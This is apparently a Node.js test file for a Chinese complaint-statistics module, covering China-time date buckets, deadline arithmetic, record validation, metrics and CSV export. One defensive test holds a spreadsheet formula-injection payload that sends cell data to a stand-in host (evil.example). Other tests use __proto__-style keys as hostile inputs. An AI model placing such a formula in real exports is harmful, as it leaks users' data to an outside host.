// core/stats.js: China-time buckets, deadlines, record checks, metrics and CSV, table-driven.
"use strict";
const test = require("node:test");
const assert = require("node:assert/strict");
const S = require("../../docs/assets/javascripts/core/stats.js");

const NOW = Date.parse("2026-11-29T12:00:00Z");
const CTX = {
  now: NOW,
  casePattern: "^20[0-9]{2}[0-9]{3,6}$",
  practicePattern: "^LX20[0-9]{2}[0-9]{3}$",
  severities: { minor: { rank: 1, resolveHours: 72 }, general: { rank: 2, resolveHours: 168 }, serious: { rank: 3, resolveHours: 72 } },
  categories: { "product-quality": "商品质量", food: "食品" },
  sources: { online: "网络", phone: "电话" },
};
const LOOSE = { ...CTX, casePattern: null };

function run(over) {
  return {
    format: "pb-run", schema: 1, procedure: { id: "intake", title: "投诉接收与登记", version: "1.0.0" },
    case: "2026001", severity: "general", category: "food", source: "online",
    startedAt: "2026-10-01T02:00:00.000Z", closedAt: "2026-10-02T02:00:00.000Z",
    outcome: { resolved: true, satisfaction: 4, compensation: 50, improvements: 1 },
    steps: [{ id: "a", text: "登记", due: "PT30M", dueFrom: null }, { id: "b", text: "回执", due: "PT2H", dueFrom: "a" }],
    state: { a: { status: "done", at: "2026-10-01T02:20:00.000Z" }, b: { status: "done", at: "2026-10-01T05:00:00.000Z" } },
    ...over,
  };
}
const rec = (over, ctx = CTX) => S.fromRunFile(run(over), ctx);

// Run events as the store writes them, with ids counted from 1 per call: `start(log, case, more)`
// opens a run of intake on 2026-10-01 10:00 China time, `more` adding to its start value.
function runEvents() {
  let n = 0;
  const uid = () => "00000000-0000-4000-8000-" + String(++n).padStart(12, "0");
  const log = (k) => "run:00000000-0000-4000-9000-00000000000" + k;
  const ev = (l, at, type, extra = {}) => ({ v: 1, id: uid(), log: l, type, at, actor: { name: "张三", role: "agent" },
    device: "00000000-0000-4000-8000-00000000d0d0", ...extra });
  const start = (l, c, more = {}) => ev(l, "2026-10-01T10:00:00.000+08:00", "start", { value: { case: c, procedure: "intake", version: "1.0.0",
    severity: "general", start: "2026-10-01T10:00:00.000+08:00", ...more } });
  return { log, ev, start };
}

test("months, weeks and days are China time, whatever the zone of the instant", () => {
  const rows = [
    // [instant, month, ISO week, day]
    ["2026-03-31T16:30:00Z", "2026-04", "2026-W14", "2026-04-01"], // 00:30 on 1 April in Beijing
    ["2026-04-01T07:30:00+08:00", "2026-04", "2026-W14", "2026-04-01"],
    ["2026-03-31T15:59:59Z", "2026-03", "2026-W14", "2026-03-31"],
    ["2026-11-22T16:00:00Z", "2026-11", "2026-W48", "2026-11-23"], // Monday 00:00 Beijing starts a week
    ["2026-11-22T15:59:00Z", "2026-11", "2026-W47", "2026-11-22"],
    ["2020-12-31T16:00:00Z", "2021-01", "2020-W53", "2021-01-01"], // ISO week of the previous year
    ["2026-12-28T00:00:00+08:00", "2026-12", "2026-W53", "2026-12-28"],
  ];
  for (const [iso, month, week, day] of rows) {
    const ms = Date.parse(iso);
    assert.equal(S.monthOf(ms), month, iso);
    assert.equal(S.weekOf(ms), week, iso);
    assert.equal(S.dayOf(ms), day, iso);
  }
});

test("week keys read as calendar dates", () => {
  for (const [key, label] of [["2026-W48", "11月23日–29日"], ["2026-W44", "10月26日–11月1日"], ["2020-W53", "12月28日–1月3日"]]) {
    assert.equal(S.weekLabel(key), label);
  }
});

test("deadlines: elapsed hours, China calendar days, months clamped to the month's end", () => {
  const rows = [
    ["2026-10-01T02:00:00Z", "PT30M", "2026-10-01T02:30:00.000Z"],
    ["2026-10-01T02:00:00Z", "P1DT2H", "2026-10-02T04:00:00.000Z"],
    ["2026-08-30T16:00:00Z", "P6M", "2027-02-27T16:00:00.000Z"], // Aug 31 Beijing + 6 months = Feb 28
    ["2028-02-28T16:00:00Z", "P1Y", "2029-02-27T16:00:00.000Z"], // Feb 29 + 1 year = Feb 28
    ["2026-01-30T16:00:00Z", "P1M", "2026-02-27T16:00:00.000Z"], // Jan 31 + 1 month = Feb 28
    ["2026-10-01T02:00:00Z", "P2W", "2026-10-15T02:00:00.000Z"],
    ["2026-10-01T02:00:00Z", "nonsense", null],
  ];
  for (const [from, dur, want] of rows) {
    const got = S.addDuration(Date.parse(from), dur);
    assert.equal(got === null ? null : new Date(got).toISOString(), want, from + " + " + dur);
  }
});

test("impossible times and wrong types are rejected with what is wrong", () => {
  const rows = [
    // [change, words the reason must contain]
    [{ startedAt: "1" }, "startedAt 不是带时区的时间"],
    [{ startedAt: 0 }, "startedAt 不是带时区的时间"],
    [{ startedAt: "2026-10-01T02:00:00" }, "startedAt 不是带时区的时间"],
    [{ startedAt: "1970-01-01T00:00:00Z" }, "早于 2000 年"],
    [{ startedAt: "2099-01-01T00:00:00Z", closedAt: null }, "在未来"],
    [{ closedAt: "not a date" }, "closedAt 不是带时区的时间"],
    [{ closedAt: "2026-09-01T00:00:00Z" }, "closedAt 早于 startedAt"],
    [{ outcome: { resolved: "no" } }, "outcome.resolved"],
    [{ outcome: { satisfaction: "5" } }, "outcome.satisfaction 应为数字"],
    [{ outcome: { compensation: "100" } }, "outcome.compensation 应为数字"],
    [{ outcome: { improvements: "2" } }, "outcome.improvements 应为数字"],
    [{ outcome: { satisfaction: 500 } }, "超出范围"],
    [{ outcome: { compensation: -1e9 } }, "超出范围"],
    [{ outcome: { improvements: 1e6 } }, "超出范围"],
    [{ outcome: { satisfaction: 4.5 } }, "超出范围"],
    [{ severity: "catastrophic" }, "severity 不是已定义的值"],
    [{ category: "constructor" }, "category 不是已定义的值"],
    [{ source: "__proto__" }, "source 不是已定义的值"],
    [{ case: "__proto__" }, "投诉编号不符合编号规则"],
    [{ case: 2026001 }, "缺少投诉编号"],
    [{ schema: 2 }, "记录格式版本 2"],
    [{ format: "x" }, "不是检查单记录"],
    [{ steps: "x" }, "steps 不是列表"],
    [{ state: null }, "缺少 state"],
    [{ state: { a: { status: "done", at: "yesterday" } } }, "步骤 a 的时间"],
    [{ state: { a: { status: "maybe", at: "2026-10-01T02:20:00Z" } } }, "步骤 a 的状态"],
  ];
  for (const [change, words] of rows) {
    const got = rec(change);
    assert.equal(typeof got, "string", JSON.stringify(change));
    assert.ok(got.includes(words), JSON.stringify(change) + " → " + got);
  }
  assert.equal(typeof rec({}), "object");
  assert.equal(typeof S.fromRunFile([1, 2, 3], CTX), "string");
  assert.equal(typeof S.fromRunFile(null, CTX), "string");
});

test("case numbers such as __proto__ are ordinary keys: every record still counts", () => {
  const records = ["__proto__", "constructor", "toString", "2026001"].map((c, i) =>
    rec({ case: c, startedAt: `2026-10-0${i + 1}T02:00:00.000Z`, closedAt: null }, LOOSE));
  const s = S.compute(records, CTX);
  assert.equal(s.cases, 4);
  assert.equal(s.byCategory.food, 4);
  assert.equal(({}).runs, undefined);
  assert.equal(Object.prototype.toString.call({}), "[object Object]");
});

test("collect names each bad file, keeps the newer duplicate and leaves out practice runs", () => {
  const files = [
    { name: "good.json", text: JSON.stringify([run({}), run({ case: "2026002" })]) },
    { name: "newer.json", text: JSON.stringify(run({ closedAt: "2026-10-03T02:00:00.000Z" })) },
    { name: "broken.json", text: "{oops" },
    { name: "bad-time.json", text: JSON.stringify(run({ closedAt: "2026-01-01T00:00:00Z" })) },
    { name: "practice.json", text: JSON.stringify(run({ case: "LX2026001" })) },
    { name: "bom.json", text: "\ufeff" + JSON.stringify(run({ case: "2026003" })) },
  ];
  const got = S.collect(files, CTX);
  assert.equal(got.records.length, 3);
  assert.equal(got.practice, 1);
  assert.ok(got.problems.some((p) => p.startsWith("broken.json：不是有效的 JSON")));
  assert.ok(got.problems.some((p) => p.startsWith("bad-time.json：closedAt 早于 startedAt")));
  assert.ok(got.problems.some((p) => p.startsWith("good.json 第 1 条") && p.includes("采用较新的 newer.json")));
  const kept = got.records.find((r) => r.case === "2026001");
  assert.equal(new Date(kept.close).toISOString(), "2026-10-03T02:00:00.000Z");
});

test("metrics: boundaries, highest severity, open cases with satisfaction, stage means and overdue order", () => {
  const records = [
    // Case 1: closed exactly at its general limit (168 h) → on time; a later run lowers severity → highest kept.
    rec({ case: "2026001", closedAt: "2026-10-08T02:00:00.000Z", outcome: { resolved: true, satisfaction: null, compensation: 0, improvements: 0 } }),
    rec({ case: "2026001", procedure: { id: "classify", title: "分类", version: "1.0.0" }, severity: "minor",
      startedAt: "2026-10-02T02:00:00.000Z", closedAt: "2026-10-03T02:00:00.000Z", outcome: null, state: {} }),
    // Case 2: open, with a satisfaction score (counts for satisfaction, not for closed figures).
    rec({ case: "2026002", severity: "serious", closedAt: null, outcome: { resolved: null, satisfaction: 2, compensation: 100.5, improvements: 2 } }),
    // Case 3: closed one minute past the general limit; step a late (31 min), b late (from a's completion).
    rec({ case: "2026003", startedAt: "2026-10-05T02:00:00.000Z", closedAt: "2026-10-12T02:01:00.000Z",
      state: { a: { status: "done", at: "2026-10-05T02:31:00.000Z" }, b: { status: "done", at: "2026-10-05T04:32:00.000Z" } },
      outcome: { resolved: false, satisfaction: 5, compensation: null, improvements: null } }),
  ];
  const s = S.compute(records, CTX);
  assert.deepEqual(
    { cases: s.cases, closed: s.closed, bySeverity: s.bySeverity, onTimeRate: s.onTimeRate, satisfaction: s.satisfaction,
      resolutionRate: s.resolutionRate, compensationCases: s.compensationCases, compensationTotal: s.compensationTotal, improvements: s.improvements },
    { cases: 3, closed: 2, bySeverity: { general: 2, serious: 1 }, onTimeRate: 50, satisfaction: 3.5,
      resolutionRate: 50, compensationCases: 1, compensationTotal: 100.5, improvements: 2 });
  // Case 1 took exactly its 168 h (on time), case 3 one minute more (late).
  assert.deepEqual(s.stage.intake, { title: "投诉接收与登记", n: 2, hours: 336.017, mean: 168, meanDays: 7 });
  assert.deepEqual(s.stage.classify, { title: "分类", n: 1, hours: 24, mean: 24, meanDays: 1 });
  assert.equal(s.handlingHours, 168);
  assert.equal(s.handlingDays, 7);
  assert.deepEqual(s.overdue.map((o) => [o.step, o.count]), [["回执", 3], ["登记", 1]]);
  assert.equal(s.overdueTotal, 4);
  assert.deepEqual(s.byWeek, { "2026-W40": 2, "2026-W41": 1 });
});

test("CSV cells that a spreadsheet would run are neutralised", () => {
  const rows = [
    ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点击\"\")\""],
    ["+1", "\"'+1\""], ["-2", "\"'-2\""], ["@SUM(A1)", "\"'@SUM(A1)\""], ["\tx", "\"'\tx\""],
    ["普通", "\"普通\""], [12, "\"12\""], [null, "\"\""],
  ];
  for (const [cell, want] of rows) assert.equal(S.csvCell(cell), want);
  assert.equal(S.csv([["项目", "件数"], ["a", 1]]), "\ufeff\"项目\",\"件数\"\r\n\"a\",\"1\"\r\n");
});

test("run event logs (an export or this browser's store) count like run files; practice and discarded runs do not", () => {
  const E = require("../../docs/assets/javascripts/core/events.js");
  const { log, ev, start: bare } = runEvents();
  const start = (l, c) => bare(l, c, { category: "food", source: "online", title: "投诉接收与登记",
    checklist: { steps: [{ id: "a", text: "登记", due: "PT30M" }], blocks: [], severities: [] } });
  const events = [start(log(1), "2026001"), ev(log(1), "2026-10-01T10:40:00.000+08:00", "tick", { step: "a" }),
    ev(log(1), "2026-10-02T10:00:00.000+08:00", "close"),
    start(log(2), "LX2026001"), start(log(3), "2026002"), ev(log(3), "2026-10-01T11:00:00.000+08:00", "discard")];
  events.forEach((e) => assert.equal(E.check(e), "", JSON.stringify(e)));
  const got = S.collect([{ name: "export.json", text: JSON.stringify({ events }) }], CTX);
  assert.deepEqual([got.records.length, got.practice, got.problems], [1, 1, []]);
  const s = S.compute(got.records, CTX);
  assert.deepEqual([s.cases, s.closed, s.handlingHours, s.overdueTotal, s.byMonth], [1, 1, 24, 1, { "2026-10": 1 }]);
});

// Record checks word for word, with their boundaries (found by make mutation: the table above
// only looks for a few words of each reason).
test("record checks: each reason word for word, boundaries included", () => {
  const rows = [
    [{ startedAt: "1" }, "startedAt 不是带时区的时间（\"1\"）"],
    [{ startedAt: "2026-13-01T00:00:00Z" }, "startedAt 不是有效时间（2026-13-01T00:00:00Z）"],
    [{ startedAt: "1999-12-31T23:59:59.999Z" }, "startedAt 早于 2000 年（1999-12-31T23:59:59.999Z）"],
    [{ startedAt: "2026-11-30T12:00:00.001Z", closedAt: null }, "startedAt 在未来（2026-11-30T12:00:00.001Z）"],  // now + 1 day + 1 ms
    [{ startedAt: "+002026-10-01T02:00:00.000Z" }, "startedAt 不是带时区的时间（\"+002026-10-01T02:00:00.000Z\"）"],
    [{ startedAt: "2026-10-01T02:00:00.000+08:00Z" }, "startedAt 不是带时区的时间（\"2026-10-01T02:00:00.000+08:00Z\"）"],
    [{ closedAt: "x" }, "closedAt 不是带时区的时间（\"x\"）"],
    [{ outcome: 5 }, "outcome 不是对象"],
    [{ outcome: [] }, "outcome 不是对象"],
    [{ outcome: { resolved: "no" } }, "outcome.resolved 应为 true/false（\"no\"）"],
    [{ outcome: { satisfaction: 500 } }, "outcome.satisfaction 超出范围 1–5（500）"],
    [{ outcome: { compensation: Infinity } }, "outcome.compensation 应为数字（null）"],
    [{ outcome: { improvements: 1.5 } }, "outcome.improvements 超出范围 0–1000（1.5）"],
    [{ severity: 5 }, "severity 不是已定义的值（5）"],
    [{ category: "x" }, "category 不是已定义的值（\"x\"）"],
    [{ case: "9".repeat(50) }, "投诉编号不符合编号规则（\"" + "9".repeat(40) + "\"）"],
    [{ case: "" }, "缺少投诉编号 case"],
    [{ procedure: null }, "procedure 缺少 id 或 title"],
    [{ procedure: { id: 1, title: "t" } }, "procedure 缺少 id 或 title"],
    [{ procedure: { id: "i" } }, "procedure 缺少 id 或 title"],
    [{ steps: [{ id: "a", text: "t" }, null] }, "steps 第 2 项格式不正确"],
    [{ steps: [{ id: 1, text: "t" }] }, "steps 第 1 项格式不正确"],
    [{ steps: [{ id: "a" }] }, "steps 第 1 项格式不正确"],
    [{ steps: [{ id: "a", text: "t", due: "soon" }] }, "步骤 a 的时限不是 ISO 8601 时长"],
    [{ steps: [{ id: "a", text: "t", due: "" }] }, "步骤 a 的时限不是 ISO 8601 时长"],
    [{ state: { a: null } }, "步骤 a 的状态不正确"],
    [{ state: { a: { status: "done", at: "2099-01-01T00:00:00Z" } } }, "步骤 a 的时间 在未来（2099-01-01T00:00:00Z）"],
    [{ schema: "1" }, "记录格式版本 \"1\" 不受支持"],
    [{ format: "pb-events" }, "缺少 format: \"pb-run\"，不是检查单记录"],
  ];
  for (const [change, reason] of rows) assert.equal(rec(change), reason, JSON.stringify(change));
  assert.equal(S.fromRunFile("x", CTX), "不是 JSON 对象");
  assert.equal(S.fromRunFile([], CTX), "不是 JSON 对象");
});

test("record checks: what passes at the boundaries, and what a good record holds", () => {
  // The first instant of 2000, exactly a day ahead, a close at the start instant, a skipped step.
  assert.equal(rec({ startedAt: "2000-01-01T00:00:00Z", closedAt: null }).start, Date.UTC(2000, 0, 1));
  assert.equal(rec({ startedAt: "2026-11-30T12:00:00Z", closedAt: null }).start, NOW + 86400000);
  assert.equal(rec({ closedAt: "2026-10-01T02:00:00.000Z" }).close, Date.parse("2026-10-01T02:00:00.000Z"));
  const r = rec({ severity: null, category: undefined, steps: [{ id: "a", text: "t", due: null, dueFrom: 5 }, { id: "b", text: "u", dueFrom: "a" }],
    state: { a: { status: "skipped", at: "2026-10-01T02:20:00Z" }, b: { status: "done", at: "2026-10-01T03:00:00Z" } } });
  assert.deepEqual(r.steps, [{ id: "a", text: "t", due: null, dueFrom: null }, { id: "b", text: "u", due: null, dueFrom: "a" }]);
  assert.deepEqual([...r.done], [["b", Date.parse("2026-10-01T03:00:00Z")]]);
  assert.deepEqual([r.severity, r.category, r.source, r.practice], [null, null, "online", false]);
  assert.equal(r.latest, Date.parse("2026-10-02T02:00:00.000Z"));  // the close, later than every step
  assert.deepEqual(rec({ outcome: undefined }).outcome, { resolved: null, satisfaction: null, compensation: null, improvements: null });
  assert.equal(rec({ closedAt: null, state: {} }).latest, Date.parse("2026-10-01T02:00:00.000Z"));
  // Without ctx.now the clock is the machine's: an hour ahead passes, three days ahead does not.
  const soon = new Date(Date.now() + 3600e3).toISOString();
  assert.equal(typeof rec({ startedAt: soon, closedAt: null, state: {} }, { ...CTX, now: undefined }), "object");
  const later = new Date(Date.now() + 3 * 86400e3).toISOString();
  assert.equal(rec({ state: { a: { status: "done", at: later } } }, { ...CTX, now: undefined }), "步骤 a 的时间 在未来（" + later + "）");
  assert.equal(rec({ closedAt: later }, { ...CTX, now: undefined }), "closedAt 在未来（" + later + "）");
});

test("metrics over cases given out of order: earliest values, later severity, boundaries, key order", () => {
  const r = (over) => rec(over, LOOSE);
  const records = [
    // Case B, given first though it started later: its second run raises the severity and is open.
    r({ case: "B", startedAt: "2026-11-03T02:00:00.000Z", closedAt: null, severity: "serious", category: "product-quality", source: "phone", outcome: { resolved: true }, state: {} }),
    r({ case: "B", startedAt: "2026-11-02T02:00:00.000Z", closedAt: "2026-11-02T03:00:00.000Z", severity: "minor", category: null, source: null, outcome: null,
      procedure: { id: "classify", title: "分类", version: "1" }, steps: [{ id: "x", text: "甲", due: "PT1H" }, { id: "y", text: "乙", due: "PT1H" }],
      state: { x: { status: "done", at: "2026-11-02T03:00:00.000Z" }, y: { status: "done", at: "2026-11-02T03:00:00.001Z" } } }),
    // Case A: closed in 1 h of its 72; step a done exactly at its deadline, b one millisecond late.
    r({ case: "A", severity: "minor", category: null, source: null, closedAt: "2026-10-01T03:00:00.000Z", outcome: { resolved: false, satisfaction: null, compensation: 0, improvements: null },
      state: { a: { status: "done", at: "2026-10-01T02:30:00.000Z" }, b: { status: "done", at: "2026-10-01T04:30:00.001Z" } } }),
    // Case C: no severity; 1 October in China, 30 September in UTC.
    r({ case: "C", severity: null, startedAt: "2026-09-30T17:00:00.000Z", closedAt: "2026-10-03T17:00:00.000Z", outcome: { resolved: true, satisfaction: null, compensation: 10.25, improvements: 3 },
      state: { a: { status: "done", at: "2026-09-30T17:31:00.000Z" } } }),
  ];
  const s = S.compute(records, CTX);
  assert.deepEqual(s, {
    cases: 3, closed: 2, byMonth: { "2026-10": 2, "2026-11": 1 }, byWeek: { "2026-W40": 2, "2026-W45": 1 },
    byCategory: { "": 1, food: 1, "product-quality": 1 }, bySeverity: { "": 1, minor: 1, serious: 1 }, bySource: { "": 1, online: 1, phone: 1 },
    handlingHours: 36.5, handlingDays: 1.5, onTimeRate: 100,
    stage: { classify: { title: "分类", n: 1, hours: 1, mean: 1, meanDays: 0.04 }, intake: { title: "投诉接收与登记", n: 2, hours: 73, mean: 36.5, meanDays: 1.52 } },
    overdue: [{ procedure: "分类", step: "乙", count: 1 }, { procedure: "投诉接收与登记", step: "回执", count: 1 }, { procedure: "投诉接收与登记", step: "登记", count: 1 }],
    overdueTotal: 3, resolutionRate: 50, satisfaction: null, compensationCases: 1, compensationTotal: 10.25, improvements: 3 });
  for (const k of ["byMonth", "byCategory", "bySeverity", "bySource", "stage"]) {
    assert.deepEqual(Object.keys(s[k]), Object.keys(s[k]).slice().sort(), k);  // keys in sorted order, as the tables show them
  }
  assert.deepEqual(Object.keys(S.compute(records.slice().reverse(), CTX).byCategory), ["", "food", "product-quality"]);
  assert.deepEqual(S.compute([], CTX), { cases: 0, closed: 0, byMonth: {}, byWeek: {}, byCategory: {}, bySeverity: {}, bySource: {},
    handlingHours: null, handlingDays: null, onTimeRate: null, stage: {}, overdue: [], overdueTotal: 0, resolutionRate: null,
    satisfaction: null, compensationCases: 0, compensationTotal: 0, improvements: 0 });
  assert.equal(S.csvCell(undefined), '""');
  assert.equal(S.csvCell("a=b"), '"a=b"');
});

test("collect: bare event lists, lists of run files, version notices, ties, and records from events", () => {
  const { log, ev, start } = runEvents();
  // No checklist in the start event: steps and title come from the procedures the page knows.
  const events = [start(log(1), "2026009"), ev(log(1), "2026-10-01T10:40:00.000+08:00", "tick", { step: "a" }),
    ev(log(1), "2026-10-01T12:00:00.000+08:00", "tick", { step: "b" }),
    start(log(2), "X1", { source: "phone", title: "自拟" }), ev("quiz:frontline", "2026-10-01T10:00:00.000+08:00", "submit")];
  const ctx = { ...CTX, version: "1.0.0", procedures: { intake: { title: "投诉接收与登记",
    steps: [{ id: "a", text: "登记", due: "PT30M" }, { id: "b", text: "回执", due: "PT1H", dueFrom: "a" }] } } };
  const old = { procedure: { id: "intake", title: "投诉接收与登记", version: "0.9" } };
  const files = [
    { name: "bare.json", text: JSON.stringify(events) },
    { name: "list.json", text: JSON.stringify([run({ case: "2026005", ...old }), run({ case: "2026001" })]) },
    { name: "empty.json", text: "[]" },
    { name: "same.json", text: "\ufeff" + JSON.stringify(run({ case: "2026005", ...old })) },
  ];
  const got = S.collect(files, ctx);
  assert.deepEqual(got.problems, [
    "bare.json（X1）：投诉编号不符合编号规则（\"X1\"），已跳过。",
    "list.json 第 1 条：基于预案版本 0.9（当前 1.0.0），已计入。",
    // Equal latest activity: the record already there stays.
    "same.json：与 list.json 第 1 条 是同一案件同一检查单的记录，采用较新的 list.json 第 1 条。",
    "same.json：基于预案版本 0.9（当前 1.0.0），已计入。"]);
  assert.equal(got.practice, 0);
  const [fromEvents, ...fromFiles] = got.records;
  assert.deepEqual(fromFiles.map((r) => [r.case, r.where]), [["2026005", "list.json 第 1 条"], ["2026001", "list.json 第 2 条"]]);
  assert.deepEqual({ case: fromEvents.case, where: fromEvents.where, title: fromEvents.procedure.title, steps: fromEvents.steps,
    done: [...fromEvents.done], latest: fromEvents.latest, source: fromEvents.source, close: fromEvents.close }, {
    case: "2026009", where: "bare.json（2026009）", title: "投诉接收与登记",
    steps: [{ id: "a", text: "登记", due: "PT30M", dueFrom: null }, { id: "b", text: "回执", due: "PT1H", dueFrom: "a" }],
    done: [["a", Date.parse("2026-10-01T02:40:00Z")], ["b", Date.parse("2026-10-01T04:00:00Z")]],
    latest: Date.parse("2026-10-01T04:00:00Z"), source: null, close: null });
  // Without the procedures and without a title the procedure id names it, and it has no steps.
  const bare = S.fromEvents(events.slice(0, 3).concat([null, { log: 5 }]), CTX, "f");
  assert.deepEqual([bare.records[0].procedure.title, bare.records[0].steps, bare.problems], ["intake", [], []]);
  const titled = S.fromEvents(events.slice(3, 4), LOOSE, "f").records[0];
  assert.deepEqual([titled.procedure.title, titled.source, titled.where], ["自拟", "phone", "f（X1）"]);
});

test("metrics: rates from several cases, overdue steps by count then name, the input left in its order", () => {
  const r = (over) => rec(over, LOOSE);
  const late = (d) => ({ a: { status: "done", at: `2026-10-0${d}T02:31:00.000Z` }, b: { status: "done", at: `2026-10-0${d}T04:32:00.000Z` } });
  const records = [
    // Given latest first; the earliest run of case D names its category.
    r({ case: "D", startedAt: "2026-10-09T02:00:00.000Z", closedAt: "2026-10-09T03:00:00.000Z", category: "product-quality", outcome: { resolved: null }, state: {} }),
    r({ case: "D", startedAt: "2026-10-08T02:00:00.000Z", closedAt: "2026-10-08T03:00:00.000Z", category: "food", outcome: { resolved: true },
      procedure: { id: "z-last", title: "甲", version: "1" }, steps: [{ id: "q", text: "乙", due: "PT1M" }], state: { q: { status: "done", at: "2026-10-08T02:02:00.000Z" } } }),
    r({ case: "E", startedAt: "2026-10-07T02:00:00.000Z", closedAt: "2026-10-07T03:00:00.000Z", outcome: { resolved: true }, state: late(7) }),
    r({ case: "F", startedAt: "2026-10-06T02:00:00.000Z", closedAt: "2026-10-20T03:00:00.000Z", outcome: { resolved: false }, state: late(6) }),
    r({ case: "G", startedAt: "2026-10-05T02:00:00.000Z", closedAt: "2026-10-20T03:00:00.000Z", outcome: { resolved: null }, state: {} }),
  ];
  const given = records.slice();
  const s = S.compute(records, CTX);
  assert.deepEqual(records, given);
  assert.deepEqual(s.byCategory, { food: 4 });
  assert.equal(s.onTimeRate, 50);  // D and E within 168 h, F and G not: 2 of 4
  assert.equal(s.resolutionRate, 66.7);  // D (true), E (true), F (false); G has none
  assert.deepEqual(s.overdue.map((o) => [o.procedure, o.step, o.count]), [
    ["投诉接收与登记", "回执", 2], ["投诉接收与登记", "登记", 2], ["甲", "乙", 1]]);
});

test("edge inputs: week keys, lenient values, steps without deadlines, odd files", () => {
  for (const key of ["bad", "x2026-W47", "2026-W47x"]) assert.equal(S.weekLabel(key), key);
  assert.equal(rec({ startedAt: "2026-10-01T02:00Z" }).start, Date.parse("2026-10-01T02:00:00Z"));  // seconds may be left out
  assert.equal(rec({ startedAt: ["2026-10-01T02:00:00.000Z"] }), "startedAt 不是带时区的时间（[\"2026-10-01T02:00:00.000Z\"]）");
  assert.equal(rec({ severity: ["minor"] }), "severity 不是已定义的值（[\"minor\"]）");
  assert.equal(rec({ closedAt: undefined }).close, null);
  assert.equal(rec({ state: { a: { status: "done", at: "2026-11-30T13:00:00Z" } } }), "步骤 a 的时间 在未来（2026-11-30T13:00:00Z）");  // ctx.now, not the machine's clock
  // A step without a deadline, and one whose deadline counts from a step never done, are never overdue.
  const r = rec({ steps: [{ id: "a", text: "登记" }, { id: "b", text: "回执", due: "PT1M", dueFrom: "c" }],
    state: { a: { status: "done", at: "2026-10-01T05:00:00Z" }, b: { status: "done", at: "2026-10-01T05:00:00Z" } } });
  assert.deepEqual(S.compute([r], CTX).overdue, []);
  const files = [
    { name: "null.json", text: "null" }, { name: "text.json", text: "\"abc\"" }, { name: "nulls.json", text: "[null]" },
    { name: "v-only.json", text: JSON.stringify([{ v: 1 }]) }, { name: "log-only.json", text: JSON.stringify([{ log: "run:x" }]) },
    { name: "mixed.json", text: JSON.stringify([{ v: 1, log: "run:x" }, run({ case: "2026008" })]) },
    { name: "mark.json", text: JSON.stringify(run({ case: "2026\ufeff009" })) },
  ];
  assert.deepEqual(S.collect(files, CTX).problems, [
    "null.json：不是 JSON 对象，已跳过。", "text.json：不是 JSON 对象，已跳过。", "nulls.json 第 1 条：不是 JSON 对象，已跳过。",
    "v-only.json 第 1 条：缺少 format: \"pb-run\"，不是检查单记录，已跳过。", "log-only.json 第 1 条：缺少 format: \"pb-run\"，不是检查单记录，已跳过。",
    "mixed.json 第 1 条：缺少 format: \"pb-run\"，不是检查单记录，已跳过。", "mark.json：投诉编号不符合编号规则（\"2026\ufeff009\"）",
  ].map((p, i) => (i === 6 ? p + "，已跳过。" : p)));
});

test("records from events: skipped steps are not done, the close is the latest activity", () => {
  const ev = (type, at, extra = {}) => ({ v: 1, id: "00000000-0000-4000-8000-0000000000" + String(10 + ev.n++), log: "run:00000000-0000-4000-9000-000000000001",
    type, at, actor: { name: "张三", role: "agent" }, device: "00000000-0000-4000-8000-00000000d0d0", ...extra });
  ev.n = 0;
  const events = [ev("start", "2026-10-01T10:00:00.000+08:00", { value: { case: "2026001", procedure: "intake", version: "1.0.0", start: "2026-10-01T10:00:00.000+08:00",
    checklist: { steps: [{ id: "a", text: "登记" }, { id: "b", text: "回执" }], blocks: [], severities: [] } } }),
    ev("skip", "2026-10-01T10:05:00.000+08:00", { step: "a", value: "不需要" }), ev("close", "2026-10-02T10:00:00.000+08:00")];
  const [r] = S.fromEvents(events, CTX, "f").records;
  assert.deepEqual([...r.done], []);
  assert.equal(r.latest, Date.parse("2026-10-02T02:00:00Z"));
  const [open] = S.fromEvents(events.slice(0, 1), CTX, "f").records;
  assert.equal(open.latest, Date.parse("2026-10-01T02:00:00Z"));
});
